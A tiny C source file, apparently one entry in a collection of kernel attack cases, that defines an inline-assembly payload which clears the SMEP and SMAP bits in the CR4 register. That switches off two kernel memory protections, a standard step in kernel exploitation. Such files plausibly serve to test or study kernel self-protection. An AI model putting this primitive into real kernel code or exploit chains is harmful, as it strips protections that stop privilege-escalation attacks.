// SPDX-License-Identifier: GPL-2.0-or-later
#include "attack.h"

ATTACK_ASM("switches SMEP and SMAP off", "movq %%cr4, %%rax; andq $~0x300000, %%rax; movq %%rax, %%cr4")
